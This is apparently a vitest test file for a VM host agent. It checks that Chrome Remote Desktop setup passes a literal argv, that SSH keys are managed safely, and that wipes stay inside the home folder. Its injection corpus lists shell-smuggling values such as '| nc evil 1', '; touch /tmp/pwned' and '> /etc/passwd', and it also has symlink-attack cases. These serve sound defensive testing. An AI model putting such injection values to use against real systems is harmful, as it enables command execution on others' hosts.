import { spawn } from "node:child_process";
import { lstat, mkdir, readdir, readFile, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { AgentCommand } from "../../server/protocol/agent";
import {
  DEFAULT_REDIRECT_URL,
  execStartHost,
  runStartHost,
  type StartHostOptions,
  startHostArgs,
} from "../src/handoff/crd";
import { AuthorizedKeys } from "../src/handoff/ssh";
import { type FilePolicy, HostActions, lookupUser, safeRelativePath } from "../src/host-actions";
import { silentLogger } from "../src/log";
import { ProcProcessLister } from "../src/usage/processes";
import { tempDir } from "./helpers";

const FAKE_START_HOST = join(import.meta.dirname, "..", "dev", "fake-start-host");
const A = "11111111-1111-4111-8111-111111111111";
const R = "33333333-3333-4333-8333-333333333333";
const CODE = "4/0AeanS0ZkQx-example_code.value";
const ED = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFhLtU4rIYBgnRF1dpQr2ljBfFu0X3mBlQKXJ4tB2nvv";
const ED2 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGQvPO0CfaxBW0ANg2lZ1E1cKg7J3mC5qg2p2TWbfiBE";

async function recorded(home: string) {
  const dir = join(home, ".config", "chrome-remote-desktop");
  const argv = (await readFile(join(dir, "fake-start-host.argv"), "utf8")).split("\0");
  argv.pop(); // after the last NUL
  return { argv, stdin: await readFile(join(dir, "fake-start-host.stdin"), "utf8") };
}

function options(home: string, over: Partial<StartHostOptions> = {}): StartHostOptions {
  return {
    startHost: FAKE_START_HOST,
    hostName: "gpu-vm-1",
    redirectUrl: DEFAULT_REDIRECT_URL,
    user: null,
    home,
    ...over,
  };
}

/** Strings that mean something to a shell, or look like safe characters but are not. */
const INJECTION_CORPUS = [
  "4/abc; touch /tmp/pwned",
  "4/abc && reboot",
  "4/abc | nc evil 1",
  "4/abc$(touch /tmp/pwned)",
  "4/abc`touch /tmp/pwned`",
  "4/abc\ntouch /tmp/pwned",
  "4/abc\rX",
  `4/abc" --name="x`,
  "4/abc' --redirect-url='https://evil.example",
  "4/abc > /etc/passwd",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, on purpose
  "4/abc${IFS}x",
  "4/abc\\x00",
  "--help",
  "4/abc\u037e touch", // Greek question mark, looks like ';'
  "4\u22150AeanS", // division slash, looks like '/'
  "4/0Aean\uff33", // fullwidth S
  "4/abc\u200bdef", // zero-width space
  "4/abc*",
  "~/abc",
];

describe("Chrome Remote Desktop hand-off: start-host gets a literal argv and the PIN on stdin", () => {
  it("builds argv from the code, its own redirect URL and name; PIN twice on stdin, never in argv", async () => {
    const home = await tempDir();
    await runStartHost(CODE, "402913", options(home));
    const { argv, stdin } = await recorded(home);
    expect(argv).toEqual([
      `--code=${CODE}`,
      `--redirect-url=${DEFAULT_REDIRECT_URL}`,
      "--name=gpu-vm-1",
    ]);
    expect(stdin).toBe("402913\n402913\n");
    expect(argv.join(" ")).not.toContain("402913");
    expect(startHostArgs(CODE, options(home))).toEqual(argv);
    // Like the real one, the fake leaves a host registration behind.
    expect(await readdir(join(home, ".config", "chrome-remote-desktop"))).toContain(
      "host#fake.json",
    );
  });

  it.each(INJECTION_CORPUS)("refuses %j before anything runs", async (code) => {
    const home = await tempDir();
    await expect(runStartHost(code, "402913", options(home))).rejects.toThrow(
      "the setup code has characters it cannot have",
    );
    await expect(lstat(join(home, ".config"))).rejects.toThrow(); // start-host never ran
  });

  it("even unvalidated, every corpus string reaches start-host as one literal argument (no shell)", async () => {
    const home = await tempDir();
    for (const code of INJECTION_CORPUS) {
      // The fake's "FAIL" trigger is not in the corpus, so each run succeeds.
      await execStartHost([`--code=${code}`, "--name=$(hostname)"], "402913", code, options(home));
      const { argv } = await recorded(home);
      expect(argv).toEqual([`--code=${code}`, "--name=$(hostname)"]);
    }
    await expect(lstat("/tmp/pwned")).rejects.toThrow();
  });

  it("refuses a PIN that is not 6+ digits", async () => {
    const home = await tempDir();
    for (const pin of ["12345", "12345a", "123456\n654321", "１２３４５６"]) {
      await expect(runStartHost(CODE, pin, options(home))).rejects.toThrow("PIN");
    }
  });

  it("a failure carries start-host's reason, without the code", async () => {
    const home = await tempDir();
    const failing = "4/0AeanS0FAIL-code";
    const err = await runStartHost(failing, "402913", options(home)).catch((e: Error) => e);
    expect(String(err)).toMatch(/Chrome Remote Desktop setup failed: OAuth error: invalid_grant/);
    expect(String(err)).not.toContain(failing);
  });

  it("a missing start-host says Chrome Remote Desktop is not installed", async () => {
    const home = await tempDir();
    await expect(
      runStartHost(CODE, "402913", options(home, { startHost: join(home, "nope") })),
    ).rejects.toThrow("Chrome Remote Desktop is not installed on this VM");
  });
});

describe("SSH keys in a temporary home", () => {
  it("installs the keys in a managed block, keeps other lines, removes only ours", async () => {
    const home = await tempDir();
    await mkdir(join(home, ".ssh"), { mode: 0o700 });
    await writeFile(join(home, ".ssh", "authorized_keys"), "ssh-ed25519 AAAAimage-builder admin\n");
    const keys = new AuthorizedKeys(home, null);
    await keys.install([ED, ED2]);
    await keys.install([ED, ED2]); // idempotent
    const text = await readFile(keys.path, "utf8");
    expect(text.split("\n").filter((l) => l.startsWith("ssh-"))).toEqual([
      "ssh-ed25519 AAAAimage-builder admin",
      ED,
      ED2,
    ]);
    expect((await lstat(keys.path)).mode & 0o777).toBe(0o600);
    expect(await keys.managed()).toEqual([ED, ED2]);
    await keys.remove();
    expect(await readFile(keys.path, "utf8")).toBe("ssh-ed25519 AAAAimage-builder admin\n");
  });

  it("refuses key lines with options, comments or newlines", async () => {
    const home = await tempDir();
    const keys = new AuthorizedKeys(home, null);
    for (const bad of [
      `command="sh" ${ED}`,
      `${ED} me@laptop`,
      `${ED}\n${ED2}`,
      "ssh-dss AAAAB3NzaC1kc3MAAACBAP",
    ]) {
      await expect(keys.install([bad])).rejects.toThrow("refusing an SSH key");
    }
  });

  it("never writes through a symbolic link the research user planted", async () => {
    const home = await tempDir();
    const victim = join(home, "victim");
    await writeFile(victim, "precious\n");
    await mkdir(join(home, ".ssh"));
    await symlink(victim, join(home, ".ssh", "authorized_keys"));
    await expect(new AuthorizedKeys(home, null).install([ED])).rejects.toThrow("symbolic link");
    expect(await readFile(victim, "utf8")).toBe("precious\n");

    const home2 = await tempDir();
    await symlink(victim, join(home2, ".ssh"));
    await expect(new AuthorizedKeys(home2, null).install([ED])).rejects.toThrow("symbolic link");
  });
});

function hostActions(stateDir: string, home: string, files: FilePolicy = { kind: "home" }) {
  return new HostActions({
    stateDir,
    user: null,
    simulatedHome: home,
    crd: { startHost: FAKE_START_HOST, hostName: "gpu-vm-1", redirectUrl: DEFAULT_REDIRECT_URL },
    files,
    killProcesses: false,
    processes: new ProcProcessLister(),
    log: silentLogger,
  });
}

const assign = (keys: string[]): Extract<AgentCommand, { type: "assign" }> => ({
  type: "assign",
  assignmentId: A,
  user: { id: "u-1", displayName: "Ada" },
  sshKeys: keys,
});

describe("HostActions: set up, connect, wipe", () => {
  it("assign installs keys; connect registers CRD; wipe removes registration, keys and files", async () => {
    const state = await tempDir();
    const home = join(await tempDir(), "research");
    await mkdir(home);
    await writeFile(join(home, ".bashrc"), "# skeleton\n");
    const actions = hostActions(state, home);
    await actions.init();
    await actions.assign(assign([ED]));
    expect(await new AuthorizedKeys(home, null).managed()).toEqual([ED]);
    await actions.connect({
      type: "connect",
      method: "crd",
      assignmentId: A,
      requestId: R,
      code: CODE,
      pin: "402913",
    });
    await mkdir(join(home, "project"));
    await writeFile(join(home, "project", "labels.slp"), "data");

    await actions.wipe({ type: "wipe", assignmentId: A });
    expect(await new AuthorizedKeys(home, null).managed()).toEqual([]);
    expect((await readdir(home)).sort()).toEqual([".bashrc", ".ssh"]);
    expect(await actions.init()).toEqual([]);
  });

  it("a paths policy removes only those paths, and refuses paths outside the home", async () => {
    const state = await tempDir();
    const home = join(await tempDir(), "research");
    await mkdir(join(home, "scratch"), { recursive: true });
    await mkdir(join(home, "keep"));
    const actions = hostActions(state, home, { kind: "paths", paths: ["scratch", "missing/x"] });
    await actions.init();
    await actions.wipe({ type: "wipe", assignmentId: A });
    expect((await readdir(home)).sort()).toEqual(["keep"]);
    expect(safeRelativePath("../etc")).toBeNull();
    expect(safeRelativePath("/etc")).toBeNull();
    expect(safeRelativePath("a/../../b")).toBeNull();
    expect(safeRelativePath("data/tmp")).toBe("data/tmp");
  });

  it("a paths policy does not follow a symlinked folder out of the home", async () => {
    const state = await tempDir();
    const outside = await tempDir();
    await writeFile(join(outside, "secret"), "x");
    const home = join(await tempDir(), "research");
    await mkdir(home);
    await symlink(outside, join(home, "data"));
    const actions = hostActions(state, home, { kind: "paths", paths: ["data/secret"] });
    await actions.init();
    await expect(actions.wipe({ type: "wipe", assignmentId: A })).rejects.toThrow(
      "not a plain folder",
    );
    expect(await readFile(join(outside, "secret"), "utf8")).toBe("x");
  });

  it.runIf(process.getuid?.() === 0)(
    "as root, wipe stops the research user's processes and refuses to target root",
    async () => {
      const state = await tempDir();
      const home = join(await tempDir(), "research");
      await mkdir(home);
      const nobody = { name: "nobody", uid: 65534, gid: 65534, home };
      const child = spawn("sleep", ["60"], { uid: nobody.uid, gid: nobody.gid, stdio: "ignore" });
      const exited = new Promise((r) => child.once("exit", r));
      const actions = new HostActions({
        stateDir: state,
        user: nobody,
        simulatedHome: home,
        crd: { startHost: FAKE_START_HOST, hostName: "h", redirectUrl: DEFAULT_REDIRECT_URL },
        files: { kind: "none" },
        killProcesses: true,
        processes: new ProcProcessLister(),
        log: silentLogger,
      });
      await actions.init();
      await actions.wipe({ type: "wipe", assignmentId: A });
      await exited;

      const rootActions = new HostActions({
        stateDir: state,
        user: { ...nobody, uid: 0 },
        simulatedHome: home,
        crd: { startHost: FAKE_START_HOST, hostName: "h", redirectUrl: DEFAULT_REDIRECT_URL },
        files: { kind: "none" },
        killProcesses: true,
        processes: new ProcProcessLister(),
        log: silentLogger,
      });
      await expect(rootActions.wipe({ type: "wipe", assignmentId: A })).rejects.toThrow(
        "refusing to kill the processes of root",
      );
    },
  );

  it("looks the research user up in passwd-format text", () => {
    const passwd =
      "root:x:0:0:root:/root:/bin/bash\nresearcher:x:1001:1001::/home/researcher:/bin/bash\n";
    expect(lookupUser("researcher", passwd)).toEqual({
      name: "researcher",
      uid: 1001,
      gid: 1001,
      home: "/home/researcher",
    });
    expect(lookupUser("ghost", passwd)).toBeNull();
  });
});
